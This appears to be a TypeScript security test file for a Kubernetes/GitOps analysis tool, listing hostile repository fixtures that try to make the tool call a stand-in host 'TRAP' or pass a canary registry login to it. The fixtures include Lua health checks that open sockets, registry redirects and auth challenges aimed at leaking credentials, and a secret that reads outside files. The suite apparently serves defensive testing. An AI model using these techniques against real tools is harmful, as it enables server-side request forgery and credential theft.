import { secretCanary } from '../attack-case.ts';
import type { Answer, Call, CommandAttack, Server } from '../command-attack.ts';
import {
  type Files,
  agent,
  app,
  attack,
  by,
  chart,
  deployment,
  each,
  editor,
  evil,
  freely,
  harmless,
  here,
  item,
  json,
  just,
  kustomization,
  map,
  named,
  open,
  red,
  serving,
  set,
  settings,
  shown,
  tool,
  widget,
} from './kit.ts';

const free = freely(json);
const nothing: Server = () => ({ body: '{}' });
const git = 'repoURL: "http://TRAP/x.git", revision: HEAD';

/** SECURITY.md: "make us connect to somewhere: no". Whoever asks TRAP has been led away. */
const trees: Readonly<Record<string, readonly [Files, ...Call[]]>> = {
  'a subchart of a subchart': [
    {
      ...chart({ 'a.yaml': map('a', '{ a: b }') }),
      'evil/charts/s/Chart.yaml':
        'apiVersion: v1\nname: s\nversion: 1.0.0\nengine: gotpl\nurls: [http://TRAP/s.tgz]\n',
      'evil/charts/s/requirements.yaml':
        'dependencies: [{ name: t, version: "*", repository: "http://TRAP/charts" }, { name: u, version: "^1", repository: "alias:trap" }]\n',
      'evil/charts/s/requirements.lock':
        'dependencies: [{ name: t, version: 1.0.0, repository: "http://TRAP" }]\n',
      'evil/repositories.yaml': 'repositories: [{ name: trap, url: "http://TRAP" }]\n',
    },
    shown('helm', 'template', 'x', 'evil'),
    just('charts', 'list', '.'),
    just('helm', 'lint', 'evil/charts/s'),
  ],
  'a chart within a kustomization of a component': [
    kustomization('components: [c]\n', {
      'c/kustomization.yaml':
        'apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\nhelmCharts: [{ name: x, repo: "oci://TRAP/charts", version: 1.0.0, releaseName: x, includeCRDs: true, valuesInline: { a: b } }]\nresources: ["ssh://git@TRAP/x.git", "git@TRAP:x/y.git//z", "https://TRAP/x//y?ref=v1&depth=1"]\n',
    }),
    shown('kustomize', 'build', 'evil', '--enable-helm'),
    shown('kustomize', 'build', 'evil', '--enable-helm', '--local-repositories'),
  ],
  'a transformer that names an address': [
    kustomization(
      'resources: [a.yaml]\ntransformers: ["http://TRAP/t.yaml"]\ngenerators: ["http://TRAP/g"]\nvalidators: ["git::http://TRAP/v.git"]\nconfigurations: ["http://TRAP/c.yaml"]\nreplacements: [{ path: "http://TRAP/r.yaml" }]\nsecretGenerator: [{ name: s, envs: ["http://TRAP/e"] }]\n',
      { 'a.yaml': map('a', '{ a: b }') },
    ),
    shown('kustomize', 'build', 'evil'),
    just('blame', '.', 'evil', 'ConfigMap/a', 'data.a'),
  ],
  'generators in generators': [
    {
      ...harmless,
      'apps/evil.yaml': set(
        `[{ matrix: { generators: [{ git: { ${git}, directories: [{ path: "*" }] } }, { merge: { mergeKeys: [a], generators: [{ scmProvider: { gitea: { owner: x, api: "http://TRAP" } } }, { pullRequest: { bitbucketServer: { project: x, repo: y, api: "http://TRAP" } } }] } }] } }, { scmProvider: { azureDevOps: { organization: x, teamProject: y, api: "http://TRAP" } } }, { scmProvider: { bitbucket: { owner: x, user: y } } }, { pullRequest: { azuredevops: { organization: x, project: y, repo: z, api: "http://TRAP" } } }, { clusterDecisionResource: { configMapRef: x, name: y } }]`,
      ),
    },
    just('forecast', '.'),
    just('report', 'inventory', '.'),
  ],
  'a plug-in of generators whose address is settled in many ways': [
    {
      ...harmless,
      'apps/evil.yaml': set(
        '[{ plugin: { configMapRef: { name: ask }, input: { parameters: { a: "http://TRAP" } } } }, { matrix: { generators: [{ list: { elements: [{ name: a }] } }, { plugin: { configMapRef: { name: "ask" }, values: { x: "{{ .name }}" } } }] } }]',
      ),
      'apps/ask.yaml':
        'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: ask, namespace: argocd, labels: { app.kubernetes.io/part-of: argocd } }\ndata: { baseUrl: "http://TRAP", requestTimeout: "1", token: "$s:t" }\n',
      'phineus.yaml': 'generators: { evil: [{ name: a }] }\n',
    },
    just('diff', '.', 'main'),
  ],
  'several sources, each elsewhere': [
    {
      ...harmless,
      'apps/evil.yaml': `apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: { name: evil, namespace: argocd }\nspec:\n  project: default\n  sources:\n  - { ${here}, path: evil, helm: { valueFiles: [$v/x.yaml] } }\n  - { repoURL: "http://TRAP/v.git", targetRevision: main, ref: v }\n  - { repoURL: "oci://TRAP/c", targetRevision: "^1", path: . }\n  - { repoURL: "TRAP/charts", chart: c, targetRevision: "*" }\n  - { repoURL: "https://TRAP/acme/gitops.git", path: evil, targetRevision: HEAD }\n  destination: { server: "http://TRAP", namespace: evil }\n`,
    },
    just('upgrade', '.', '--to', 'c=2.0.0'),
    just('explain', 'chart-not-available', '.'),
    just('charts', 'list', '.', '-o', 'json'),
  ],
  'a catalog for every kind': [
    {
      ...evil({ 'w.yaml': widget('spec: { a: b }') }),
      'phineus.yaml':
        'schemas: ["http://TRAP/{{group}}/{{kind}}_{{version}}.json", "https://TRAP/{{kind}}.json", "//TRAP/{{kind}}.json", "HTTP://TRAP/x.json"]\n',
    },
    just('blame', '.', 'evil', 'Widget/a', 'spec.a'),
    just('upgrade', '.', 'main'),
    just('report', 'risk', '.'),
    just('forecast', '.'),
    editor(open('evil/w.yaml', widget('spec: { a: c }'))),
  ],
  'definitions that refer to addresses': [
    evil({
      'crd.yaml': item(
        'CustomResourceDefinition',
        'spec: { group: n.example.org, scope: Namespaced, conversion: { strategy: Webhook, webhook: { clientConfig: { url: "https://TRAP/convert" }, conversionReviewVersions: [v1] } }, names: { kind: Netted, plural: netteds, singular: netted }, versions: [{ name: v1, served: true, storage: true, schema: { openAPIV3Schema: { type: object, $ref: "http://TRAP/s.json", properties: { spec: { $ref: "http://TRAP/t.json" } }, externalDocs: { url: "http://TRAP" } } } }] }',
        'apiextensions.k8s.io/v1',
        'netteds.n.example.org',
      ),
      'a.yaml': item('Netted', 'spec: { a: b }', 'n.example.org/v1'),
    }),
    just('fix', '.', '--all'),
  ],
  'health and actions that ask': [
    {
      ...evil({ 'w.yaml': widget('spec: {}') }),
      'phineus.yaml': settings({
        'resource.customizations.health.t.example.org_Widget':
          'pcall(function() require("socket").connect("TRAP") end) pcall(function() require("http").get("http://TRAP") end) return { status = "Healthy" }',
        'resource.customizations.useOpenLibs.t.example.org_Widget': 'true',
        'dex.config': 'connectors: [{ type: oidc, config: { issuer: "http://TRAP" } }]',
        'oidc.config': 'issuer: http://TRAP',
        url: 'http://TRAP',
      }),
    },
    just('forecast', '.'),
  ],
  'images in every place': [
    evil({
      'd.yaml': deployment(
        '',
        'initContainers: [{ name: i, image: "TRAP/i:1" }], volumes: [{ name: v, image: { reference: "TRAP/v:1" } }], imagePullSecrets: [{ name: s }], ',
      ).replace('a:1', 'TRAP/a@sha256:0'),
      's.yaml':
        'apiVersion: v1\nkind: Secret\nmetadata: { name: s }\ntype: kubernetes.io/dockerconfigjson\nstringData: { .dockerconfigjson: \'{"auths":{"http://TRAP":{"username":"a","password":"b"}}}\' }\n',
      'phineus.images.lock.yaml': 'images: { "TRAP/i:1": { registry: "http://TRAP" } }\n',
    }),
    just('report', 'waves', '.'),
    just('upgrade', '.', 'main'),
  ],
  'secrets and certificates of stores': [
    evil({
      'a.yaml': `${item('SecretStore', 'spec: { provider: { vault: { server: "http://TRAP", path: x } } }', 'external-secrets.io/v1')}---\n${item('ClusterIssuer', 'spec: { acme: { server: "http://TRAP/directory", privateKeySecretRef: { name: x }, solvers: [] } }', 'cert-manager.io/v1')}---\n${item('GitRepository', 'spec: { url: "http://TRAP/x.git" }', 'source.toolkit.fluxcd.io/v1')}---\n${item('HelmRepository', 'spec: { url: "http://TRAP" }', 'source.toolkit.fluxcd.io/v1')}`,
    }),
    just('report', 'inventory', '.'),
  ],
};

/** The login of the user for SERVER, which nobody else may be told. */
const login: Files = {
  '../home/.docker/config.json': JSON.stringify({
    auths: { SERVER: { auth: btoa(`robot:${secretCanary}`) } },
  }),
  '../home/.config/helm/registry/config.json': JSON.stringify({
    auths: { SERVER: { auth: btoa(`robot:${secretCanary}`) } },
  }),
  '../home/.config/helm/repositories.yaml': `apiVersion: ""\nrepositories: [{ name: s, url: "http://SERVER", username: robot, password: ${secretCanary}, pass_credentials_all: false }]\n`,
};
const index = (url: string): Answer => ({
  headers: { 'content-type': 'text/yaml' },
  body: `apiVersion: v1\nentries: { c: [{ name: c, version: 1.0.0, apiVersion: v2, urls: [${JSON.stringify(url)}] }] }\n`,
});
const led: Readonly<Record<string, Server>> = {
  'an index that names another host': (path, { trap }) =>
    path.includes('index.yaml') ? index(`http://${trap}/c.tgz`) : { status: 404 },
  'an index that names a user at another host': (path, { self, trap }) =>
    path.includes('index.yaml') ? index(`http://${self}@${trap}/c.tgz`) : { status: 404 },
  'an index that goes on elsewhere': (_path, { trap }) => ({
    status: 302,
    headers: { location: `http://${trap}/index.yaml` },
  }),
  'a chart that goes on elsewhere': (path, { self, trap }) =>
    path.includes('index.yaml')
      ? index(`http://${self}/c.tgz`)
      : { status: 307, headers: { location: `//${trap}/c.tgz` } },
  'a host whose name begins alike': (path, { self, trap }) =>
    path.includes('index.yaml')
      ? index(`http://${trap}/${self}/c.tgz#http://${self}`)
      : { status: 308, headers: { location: `http://${trap}` } },
  'an address without a scheme': (path, { trap }) =>
    path.includes('index.yaml') ? index(`//${trap}/c.tgz`) : { status: 404 },
};

export const network: readonly CommandAttack[] = [
  ...each(trees, (name, [files, ...more]) =>
    attack(`network: of a tree: ${name}`, files, {
      server: nothing,
      calls: ['phineus.yaml' in files ? just('check', '.', '-o', 'json') : free, ...more],
    }),
  ),
  ...each(led, (name, server) =>
    attack(
      `network: a login is not told: ${name}`,
      {
        ...harmless,
        'apps/evil.yaml': app('repoURL: "http://SERVER", chart: c, targetRevision: 1.0.0'),
      },
      {
        server,
        after: login,
        calls: [
          by('charts', 'fetch', '.'),
          by('check', '.', '--online', '-o', 'json'),
          by('charts', 'list', '.', '--online'),
          { ...by('charts', 'lock', '.'), writes: ['phineus.charts.lock.yaml'] },
        ],
      },
    ),
  ),
  ...each<(trap: string) => string>(
    {
      // A registry may send whoever logs in to a place of its own, as the protocol has it; but not as somebody else.
      'two challenges': (trap) => `Basic realm="x", Bearer realm="http://${trap}/token"`,
      'a realm with a user': (trap) => `Bearer realm="http://x:y@${trap}/token",scope="*"`,
    },
    (name, challenge) =>
      attack(
        `network: a login is not told: ${name}`,
        {
          ...evil({ 'd.yaml': deployment('').replace('a:1', 'SERVER/x:1') }),
          'apps/other.yaml': app('repoURL: "oci://SERVER/c", path: ., targetRevision: 1.0.0', '', 'other'),
        },
        {
          server: (_path, { trap }) => ({
            status: 401,
            headers: { 'www-authenticate': challenge(trap) },
            body: '{"errors":[{"code":"UNAUTHORIZED"}]}',
          }),
          after: login,
          calls: [
            { ...by('images', 'lock', '.'), writes: ['phineus.images.lock.yaml'] },
            by('charts', 'fetch', '.'),
          ],
        },
      ),
  ),
  attack(
    'network: Secrets of the tree are no logins of ours',
    {
      ...harmless,
      'apps/evil.yaml': app('repoURL: "http://SERVER", chart: c, targetRevision: 1.0.0'),
      'apps/creds.yaml':
        'apiVersion: v1\nkind: Secret\nmetadata: { name: r, namespace: argocd, labels: { argocd.argoproj.io/secret-type: repo-creds } }\nstringData: { url: "http://SERVER", username: "${HOME}", password: "${file:OUTSIDE/values.yaml}", proxy: "http://TRAP" }\n',
    },
    {
      server: () => ({ status: 401 }),
      calls: [by('charts', 'fetch', '.'), by('check', '.', '--online')],
    },
  ),
  attack(
    'network: a dump that asks to be continued',
    {
      ...red,
      'dump/list.json':
        '{"kind":"PodList","apiVersion":"v1","metadata":{"continue":"http://TRAP/","selfLink":"http://TRAP/","remainingItemCount":9},"items":[]}',
      'dump/kubeconfig':
        'apiVersion: v1\nkind: Config\nclusters: [{ name: c, cluster: { server: "http://TRAP", proxy-url: "http://TRAP" } }]\ncontexts: [{ name: c, context: { cluster: c } }]\ncurrent-context: c\n',
    },
    {
      server: nothing,
      calls: [
        just('diagnose', 'dump'),
        just('diagnose', 'dump', '--repo', '.'),
        just('check', '.', '--snapshot', 'dump'),
        { ...just('snapshot', 'dump', '-o', 'x.snapshot'), writes: ['x.snapshot'] },
      ],
    },
  ),
  attack('network: an agent and an editor with addresses for paths', harmless, {
    server: nothing,
    calls: [
      agent(
        tool('check', { path: 'git::http://TRAP/x' }),
        tool('forecast', { path: '//TRAP/x' }),
        tool('blame', { application: 'http://TRAP', object: 'ConfigMap/a' }),
        tool('explain', { rule: 'http://TRAP' }),
        tool('prove_fix', {
          changes: [
            {
              file: 'apps/n.yaml',
              text: app('repoURL: "http://TRAP", chart: c, targetRevision: "*"', '', 'n'),
            },
            { file: 'phineus.yaml', text: 'schemas: ["http://TRAP/{{kind}}.json"]\n' },
          ],
        }),
      ),
      editor(
        open('apps/n.yaml', app('repoURL: "http://TRAP/x.git", path: x, targetRevision: HEAD', '', 'n')),
      ),
    ],
  }),
  attack(
    'network: a server that is given other hosts',
    { ...harmless, 'apps/e.yaml': named('e', 'evil') },
    {
      server: nothing,
      calls: [
        {
          ...serving(),
          asks: [
            { path: '/api/v1/watched/tree/report', awaits: 'witness-web' },
            { path: '/api/v1/watched', headers: { host: 'TRAP', 'x-forwarded-host': 'TRAP' } },
            { path: 'http://TRAP/api/v1/watched' },
            { path: '/', headers: { origin: 'http://TRAP', referer: 'http://TRAP' } },
            {
              path: '/hooks/gitlab',
              verb: 'POST',
              headers: { 'x-gitlab-event': 'Push Hook' },
              body: '{"project":{"git_http_url":"http://TRAP/x.git"}}',
            },
          ],
        },
      ],
    },
  ),
];
